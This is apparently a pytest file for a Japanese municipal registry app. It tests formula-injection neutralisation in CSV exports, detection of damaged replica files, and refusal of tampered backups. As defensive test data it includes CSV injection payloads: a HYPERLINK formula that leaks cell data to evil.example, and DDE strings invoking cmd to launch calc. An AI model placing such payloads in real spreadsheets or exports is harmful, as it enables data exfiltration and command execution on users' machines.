"""Evidence that holds, on real replica files: exports a spreadsheet cannot run, a damaged or empty replica file
reported plainly before anything is read from it, a file that is not ours never overwritten, and a backup whose
header or database was changed refused, a failed restore leaving nothing behind."""

from __future__ import annotations

import base64
import csv
import io
import json
from pathlib import Path

import keyring
import pytest

from domain.address_book import Chouaza, to_csv
from domain.disaster import AssessmentInput, LedgerFilter
from local_store import audit
from local_store.backup import MAGIC, restore
from local_store.database import DB_FILE
from local_store.errors import DamagedReplicaError, StoreError
from local_store.registry import Registry
from local_store.staff import Staff
from local_store.terminal_key import KEYRING_SERVICE, TerminalFile
from reports.opendata_csv import population_csv
from reports.seal import demo_seal_png
from tests.support.builders import ADMIN, TOWN, Clock, family, person, tennyu

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
QUAKE = "令和8年11月27日の地震"
BACKUP_PASSPHRASE = "backup-passphrase-1"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def runnable(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet program would run as a formula."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


# --- CSV a spreadsheet cannot run ----------------------------------------------------------------------------------

def test_the_disaster_ledger_neutralises_what_a_counter_clerk_typed(registry: Registry, admin: Staff) -> None:
    registry.settings.update(admin, {"seal_png": base64.b64encode(demo_seal_png("みどり町長")).decode()})
    yamada = registry.apply(admin, family()).idou.rows[0].row.setai_no
    sato = registry.apply(admin, tennyu(person("佐藤　一郎", "サトウ　イチロウ", "S40.4.1", "男", "世帯主"),
                                        address="さくら県みどり町中町5番地")).idou.rows[0].row.setai_no
    registry.disaster.record_assessment(admin, AssessmentInput(
        yamada, "全壊", '=HYPERLINK("http://evil.example/?"&A1,"詳細")', place="-2+3",
        note="@SUM(1+1)*cmd|' /C calc'!A0", surveyor="+cmd|' /C calc'!A0"))
    registry.disaster.record_assessment(admin, AssessmentInput(sato, "半壊", "＝１＋１", surveyor="＠ＳＵＭ（Ａ１）"))
    rows = cells(registry.disaster.ledger_csv(admin, LedgerFilter()))
    assert runnable(rows) == []
    by_household = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    zenkai = by_household[yamada]
    assert zenkai["罹災原因"] == '\'=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    assert (zenkai["被災住家の所在地"], zenkai["追加記載事項"], zenkai["調査者"]) == \
        ("'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")
    assert zenkai["世帯人員"] == "4"  # a number the program writes stays a number
    assert (by_household[sato]["罹災原因"], by_household[sato]["調査者"]) == ("'＝１＋１", "'＠ＳＵＭ（Ａ１）")


def test_the_open_data_csv_neutralises_an_area_name(registry: Registry, admin: Staff) -> None:
    registry.apply(admin, tennyu(person("佐藤　一郎", "サトウ　イチロウ", "S40.4.1", "男", "世帯主"),
                                 address="さくら県みどり町＠ＳＵＭ町1番地"))
    population = registry.statistics.population(admin, registry.today(), min_area=1)
    rows = cells(population_csv(population, "131016", "さくら県みどり町").decode("utf-8"))
    assert runnable(rows) == []
    assert [row[4] for row in rows[2:]] == ["'＠ＳＵＭ町"]
    assert rows[1][5:8] == ["1", "1", "0"]


def test_the_address_book_and_the_audit_export_neutralise_too(registry: Registry, admin: Staff) -> None:
    book = to_csv([Chouaza("001001", "=1+1", "321-4901", 1, 30), Chouaza("001002", "－１", "321-4901", 1, 40)])
    assert [row[1] for row in cells(book)[1:]] == ["'=1+1", "'－１"]
    registry.search(admin, "＝ＨＹＰＥＲＬＩＮＫ（\"http://evil.example\"）")
    rows = cells(registry.audit.export(admin, audit.Filter(staff="admin", action="検索")))
    assert len(rows) == 2 and runnable(rows) == []


# --- a damaged, empty or foreign replica file ----------------------------------------------------------------------

def damage_page(data_dir: Path, table: str) -> None:
    """Flip one bit in the middle of the first page of `table`, as a failing disk does."""
    registry = Registry.open(data_dir, clock=Clock())
    page = registry.store.conn.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)).fetchone()[0]
    registry.close()
    db = data_dir / DB_FILE
    blob = bytearray(db.read_bytes())
    blob[(page - 1) * 4096 + 2000] ^= 0x10
    db.write_bytes(bytes(blob))


def test_a_flipped_bit_is_reported_when_the_replica_opens_before_anything_is_read(registry: Registry,
                                                                                   admin: Staff) -> None:
    from ui.shell.replica_opener import open_replica

    registry.apply(admin, family())
    registry.close()
    damage_page(registry.data_dir, "revs")  # read by no search: before, it failed only after results were shown
    before = (registry.data_dir / DB_FILE).read_bytes()
    with pytest.raises(DamagedReplicaError) as err:
        Registry.open(registry.data_dir, clock=Clock())
    assert "レプリカのファイルが壊れています" in err.value.message and "バックアップから復元してください" in err.value.message
    with pytest.raises(DamagedReplicaError) as shown:  # the window shows this message
        open_replica(registry.data_dir, lambda reason, error: None, Clock())
    assert shown.value.message == err.value.message
    assert (registry.data_dir / DB_FILE).read_bytes() == before


def test_an_empty_replica_file_is_refused_and_never_made_into_a_new_replica(registry: Registry) -> None:
    registry.close()
    data_dir = registry.data_dir
    for name in (DB_FILE + "-wal", DB_FILE + "-shm"):
        (data_dir / name).unlink(missing_ok=True)
    (data_dir / DB_FILE).write_bytes(b"")
    names = {p.name for p in data_dir.iterdir()}
    with pytest.raises(DamagedReplicaError) as err:
        Registry.open(data_dir, clock=Clock())
    assert "空" in err.value.message and "バックアップから復元してください" in err.value.message
    assert (data_dir / DB_FILE).stat().st_size == 0
    assert {p.name for p in data_dir.iterdir()} == names


@pytest.mark.parametrize("content", [b"", b"SQLite format 3\x00" + bytes(4080), b"someone else's notes"])
def test_a_new_replica_is_never_made_over_a_file_already_there(tmp_path: Path, content: bytes) -> None:
    data_dir = tmp_path / "replica"
    data_dir.mkdir()
    (data_dir / DB_FILE).write_bytes(content)
    with pytest.raises(StoreError) as err:
        Registry.create(data_dir, TOWN, "本庁1", ADMIN, clock=Clock())
    assert DB_FILE in err.value.message
    assert (data_dir / DB_FILE).read_bytes() == content
    assert sorted(p.name for p in data_dir.iterdir()) == [DB_FILE]


def test_a_set_up_that_failed_part_way_is_started_over(registry: Registry, admin: Staff, tmp_path: Path) -> None:
    enrollment = registry.keys.enrollment(admin, "支所1")
    forged = json.loads(json.dumps(enrollment))
    forged["leases"][0]["signature"] = "00" * 64
    with pytest.raises(StoreError):
        Registry.join(tmp_path / "b", forged, clock=Clock())
    assert (tmp_path / "b" / DB_FILE).exists() and not (tmp_path / "b" / "terminal.json").exists()
    Registry.join(tmp_path / "b", enrollment, clock=Clock()).close()  # the set-up's own leftover is started over
    Registry.open(tmp_path / "b", clock=Clock()).close()


# --- the backup's header and database authenticated; a failed restore leaves nothing ---------------------------

@pytest.fixture
def backup_file(registry: Registry, admin: Staff, tmp_path: Path) -> Path:
    registry.apply(admin, family())
    out = tmp_path / "town.mdgbak"
    registry.keys.backup(admin, out, BACKUP_PASSPHRASE)
    return out


def edit_header(path: Path, change: dict[str, object]) -> None:
    blob = path.read_bytes()
    start = len(MAGIC)
    end = blob.index(b"\n", start)
    header = json.loads(blob[start:end])
    header.update(change)
    path.write_bytes(blob[:start] + json.dumps(header, ensure_ascii=False).encode() + blob[end:])


@pytest.mark.parametrize("change", [{"terminal": "偽の端末"}, {"created_at": "2020-01-01T00:00:00+09:00"},
                                    {"municipality": "999999"}])
def test_a_backup_whose_header_was_changed_is_refused(backup_file: Path, tmp_path: Path,
                                                      change: dict[str, object]) -> None:
    edit_header(backup_file, change)
    with pytest.raises(StoreError) as err:
        restore(backup_file, tmp_path / "restored", BACKUP_PASSPHRASE, None, clock=Clock())
    assert "改ざん" in err.value.message
    assert not (tmp_path / "restored").exists()


def test_a_backup_whose_database_was_changed_is_refused(backup_file: Path, tmp_path: Path) -> None:
    blob = bytearray(backup_file.read_bytes())
    blob[-3000] ^= 0x01
    backup_file.write_bytes(bytes(blob))
    with pytest.raises(StoreError) as err:
        restore(backup_file, tmp_path / "restored", BACKUP_PASSPHRASE, None, clock=Clock())
    assert "改ざん" in err.value.message
    assert not (tmp_path / "restored").exists()


def test_a_backup_restores_into_an_empty_folder_and_the_restored_replica_opens(backup_file: Path,
                                                                                tmp_path: Path) -> None:
    (tmp_path / "restored").mkdir()
    code = restore(backup_file, tmp_path / "restored", BACKUP_PASSPHRASE, None, clock=Clock())
    copy = Registry.open(tmp_path / "restored", recovery_code=code, clock=Clock())
    assert copy.residents.counts()["residents"] == 4
    copy.close()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_a_restore_never_writes_into_a_folder_holding_files(backup_file: Path, tmp_path: Path) -> None:
    target = tmp_path / "restored"
    target.mkdir()
    (target / DB_FILE).write_bytes(b"")
    with pytest.raises(StoreError) as err:
        restore(backup_file, target, BACKUP_PASSPHRASE, None, clock=Clock())
    assert "空のフォルダ" in err.value.message
    assert sorted(p.name for p in target.iterdir()) == [DB_FILE] and (target / DB_FILE).read_bytes() == b""


def test_a_restore_that_fails_part_way_leaves_nothing(backup_file: Path, tmp_path: Path) -> None:
    from local_store.backup import restoring

    target = tmp_path / "restored"
    before = set(tmp_path.iterdir())
    with pytest.raises(RuntimeError), restoring(backup_file, target, BACKUP_PASSPHRASE, None, clock=Clock()) as staged:
        entry = TerminalFile.load(staged.data_dir).terminal_id
        Registry.open(staged.data_dir, recovery_code=staged.code, clock=Clock()).close()
        raise RuntimeError("the 復旧キット could not be written")
    assert set(tmp_path.iterdir()) == before
    assert keyring.get_password(KEYRING_SERVICE, entry) is None
